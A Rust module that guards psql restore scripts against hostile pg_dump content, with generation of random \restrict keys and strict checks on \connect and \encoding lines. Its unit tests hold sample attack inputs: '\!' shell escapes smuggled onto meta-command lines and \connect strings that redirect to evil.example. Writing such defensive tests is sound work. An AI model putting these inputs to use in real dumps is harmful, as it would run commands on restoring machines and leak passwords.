//! Keeping the psql scripts the toolkit writes from running what a dump smuggles in: fresh
//! `\restrict` keys (pg_dump's guard against CVE-2025-8714) and the one reading of the
//! meta-command lines pg_dump itself writes (`\connect`, `\encoding` before a `\connect` to a
//! database with an unusual name, `\restrict`, `\unrestrict`), so that every other backslash
//! command from a dump is refused, never passed through.

use crate::io::error::{IoContext, Result};
use std::io::Read;

/// A fresh `\restrict` key: 32 characters of `[A-Za-z0-9]` (psql accepts only alphanumeric
/// keys) from the kernel's random source, so a dump cannot know it and cannot end restricted
/// mode early with its own `\unrestrict`.
pub fn restrict_key() -> Result<String> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut f = std::fs::File::open("/dev/urandom").at("/dev/urandom")?;
    let mut key = String::with_capacity(32);
    let mut buf = [0u8; 64];
    while key.len() < 32 {
        f.read_exact(&mut buf).at("/dev/urandom")?;
        // Rejection sampling keeps every character equally likely (248 = 4 * 62).
        for &b in buf.iter().filter(|&&b| b < 248) {
            if key.len() < 32 {
                key.push(ALPHABET[b as usize % 62] as char);
            }
        }
    }
    Ok(key)
}

/// A meta-command line of a dump, as far as pgdump2csv cares.
#[derive(Debug, PartialEq, Eq)]
pub enum Meta<'a> {
    /// `\restrict KEY`.
    Restrict(&'a [u8]),
    /// `\unrestrict KEY`.
    Unrestrict(&'a [u8]),
    /// `\connect` in one of the two forms pg_dump writes (`appendPsqlMetaConnect`): a name of
    /// `[A-Za-z0-9_.]` as `fmtId` prints it (bare when lower-case, else double-quoted), or
    /// `-reuse-previous=on "dbname='...'"` (the libpq value quoting inside identifier
    /// quoting) for any other name; or `\encoding SQL_ASCII`, which pg_dump writes before the
    /// second form. Both are harmless lines that psql must run outside restricted mode.
    Connect,
    /// A `\connect` line pg_dump does not write: why it is refused. Above all a database name
    /// that libpq would expand into a connection string (one holding `=` or starting with
    /// `postgresql://`), which would point psql, with the user's password, at another server.
    BadConnect(&'static str),
    /// Anything else: the command word (e.g. `\!`), to name it in the error.
    Other(String),
}

/// Reads one meta-command line (starting at its backslash; the line end may be included).
pub fn classify<'a>(line: &'a [u8]) -> Meta<'a> {
    let line = line.strip_suffix(b"\n").unwrap_or(line);
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    let word_end = line[1.min(line.len())..]
        .iter()
        .position(|b| !b.is_ascii_alphanumeric())
        .map_or(line.len(), |k| k + 1);
    let (word, rest) = line.split_at(word_end);
    let alnum_arg = |rest: &'a [u8]| -> Option<&'a [u8]> {
        let arg = rest.strip_prefix(b" ")?;
        (!arg.is_empty() && arg.iter().all(u8::is_ascii_alphanumeric)).then_some(arg)
    };
    let other = || {
        let w = if word.len() > 1 {
            word
        } else {
            &line[..line.len().min(2)]
        };
        Meta::Other(String::from_utf8_lossy(w).into_owned())
    };
    match word {
        b"\\restrict" => alnum_arg(rest).map_or_else(other, Meta::Restrict),
        b"\\unrestrict" => alnum_arg(rest).map_or_else(other, Meta::Unrestrict),
        b"\\connect" => match connect_arg(rest) {
            Ok(()) => Meta::Connect,
            Err(why) => Meta::BadConnect(why),
        },
        b"\\encoding" if rest == b" SQL_ASCII" => Meta::Connect,
        _ => other(),
    }
}

/// Checks the argument of a `\connect` line (`rest` starts after the word) against the two
/// forms of `appendPsqlMetaConnect`.
fn connect_arg(rest: &[u8]) -> std::result::Result<(), &'static str> {
    const NOT_PG_DUMP: &str = "this is not one of the two forms pg_dump writes (a database name, or -reuse-previous=on \"dbname='...'\")";
    let plain = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'.';
    let arg = rest.strip_prefix(b" ").ok_or(NOT_PG_DUMP)?;
    // fmtId of a plain name: bare when it is a lower-case identifier, else double-quoted (a
    // plain name holds no quote to double).
    let bare = arg
        .first()
        .is_some_and(|&b| b.is_ascii_lowercase() || b == b'_')
        && arg
            .iter()
            .all(|&b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_');
    let quoted = arg.len() > 2
        && arg.starts_with(b"\"")
        && arg.ends_with(b"\"")
        && arg[1..arg.len() - 1].iter().all(|&b| plain(b));
    if bare || quoted {
        return Ok(());
    }
    // The general form: fmtId("dbname=" + appendConnStrVal(name)). psql reads the
    // double-quoted argument literally up to its closing quote ("" is a quote), so nothing
    // inside can start another meta-command; what is inside must be exactly one dbname.
    let q = arg
        .strip_prefix(b"-reuse-previous=on \"")
        .and_then(|q| q.strip_suffix(b"\""))
        .ok_or(NOT_PG_DUMP)?;
    let mut body = Vec::with_capacity(q.len());
    let mut i = 0;
    while i < q.len() {
        if q[i] == b'"' {
            if q.get(i + 1) != Some(&b'"') {
                return Err(NOT_PG_DUMP);
            }
            i += 1;
        }
        body.push(q[i]);
        i += 1;
    }
    let val = body
        .strip_prefix(b"dbname='")
        .and_then(|v| v.strip_suffix(b"'"))
        .ok_or(NOT_PG_DUMP)?;
    // appendConnStrVal's quoting: a backslash before every ' and \, and nothing else.
    let mut name = Vec::with_capacity(val.len());
    let mut i = 0;
    while i < val.len() {
        match val[i] {
            b'\\' => match val.get(i + 1) {
                Some(&c @ (b'\\' | b'\'')) => {
                    name.push(c);
                    i += 1;
                }
                _ => return Err(NOT_PG_DUMP),
            },
            b'\'' => return Err(NOT_PG_DUMP),
            c => name.push(c),
        }
        i += 1;
    }
    // pg_dump takes this form only for a name that is not plain.
    if name.is_empty() || name.iter().all(|&b| plain(b)) {
        return Err(NOT_PG_DUMP);
    }
    // libpq expands a dbname holding '=' or starting with a URI prefix into a whole
    // connection string (host, port, user...): psql would connect where the dump says.
    let lower = name.to_ascii_lowercase();
    if name.contains(&b'=')
        || lower.starts_with(b"postgresql://")
        || lower.starts_with(b"postgres://")
    {
        return Err(
            "its database name is a connection string (it holds '=' or starts with postgresql://), which psql would connect to, sending your password to the server it names; pg_dump only writes a database name here",
        );
    }
    Ok(())
}

/// Whether `s` can stand on a psql meta-command line: psql reads those lines up to the end of
/// the line, so a CR or LF would end the command there and start a new one.
pub fn line_safe(s: &str) -> bool {
    !s.contains(['\n', '\r'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_are_fresh_and_alphanumeric() {
        let a = restrict_key().unwrap();
        let b = restrict_key().unwrap();
        assert_eq!(a.len(), 32);
        assert!(a.bytes().all(|b| b.is_ascii_alphanumeric()));
        assert_ne!(a, b);
    }

    #[test]
    fn meta_commands() {
        assert_eq!(classify(b"\\restrict abc9\n"), Meta::Restrict(b"abc9"));
        assert_eq!(
            classify(b"\\unrestrict abc9\r\n"),
            Meta::Unrestrict(b"abc9")
        );
        assert_eq!(classify(b"\\connect db_1\n"), Meta::Connect);
        assert_eq!(classify(b"\\connect \"Db_1.x\"\n"), Meta::Connect);
        // Not fmtId's output: pg_dump would quote these.
        assert!(matches!(
            classify(b"\\connect db_1.x\n"),
            Meta::BadConnect(_)
        ));
        assert!(matches!(classify(b"\\connect Db\n"), Meta::BadConnect(_)));
        assert!(matches!(classify(b"\\c db\n"), Meta::Other(_)));
        assert_eq!(classify(b"\\encoding SQL_ASCII\n"), Meta::Connect);
        assert_eq!(
            classify(b"\\encoding UTF8\n"),
            Meta::Other("\\encoding".into())
        );
        assert_eq!(
            classify(b"\\encoding UTF8 \\! ls\n"),
            Meta::Other("\\encoding".into())
        );
        assert_eq!(
            classify(b"\\connect -reuse-previous=on \"dbname='a \"\"b\\\\c'\"\n"),
            Meta::Connect
        );
        assert_eq!(classify(b"\\! touch /tmp/x\n"), Meta::Other("\\!".into()));
        assert_eq!(classify(b"\\unrestric"), Meta::Other("\\unrestric".into()));
        assert_eq!(
            classify(b"\\restrict abc \\! ls"),
            Meta::Other("\\restrict".into())
        );
        for bad in [
            &b"\\connect db \\! ls\n"[..],
            b"\\connect -reuse-previous=on \"a\" \\! ls\n",
            b"\\connect -reuse-previous=on \"dbname='a-b'\" \\! ls\n",
            b"\\connect -reuse-previous=on \"dbname='a'\"\n",
            b"\\connect -reuse-previous=on \"dbname='a-b' host=x\"\n",
            b"\\connect -reuse-previous=on \"dbname='a-b'' host=x'\"\n",
            b"\\connect -reuse-previous=on \"dbname=a-b\"\n",
            b"\\connect \"\"\n",
            b"\\connect\n",
        ] {
            assert!(
                matches!(classify(bad), Meta::BadConnect(_)),
                "{}",
                String::from_utf8_lossy(bad)
            );
        }
        // A database name libpq would expand into a connection string.
        for bad in [
            &b"\\connect -reuse-previous=on \"dbname='app host=evil.example port=5432'\"\n"[..],
            b"\\connect -reuse-previous=on \"dbname='postgresql://evil.example/app'\"\n",
            b"\\connect -reuse-previous=on \"dbname='POSTGRES://evil.example/app'\"\n",
        ] {
            assert_eq!(
                classify(bad),
                Meta::BadConnect(
                    "its database name is a connection string (it holds '=' or starts with postgresql://), which psql would connect to, sending your password to the server it names; pg_dump only writes a database name here"
                )
            );
        }
        assert_eq!(classify(b"\\"), Meta::Other("\\".into()));
    }
}
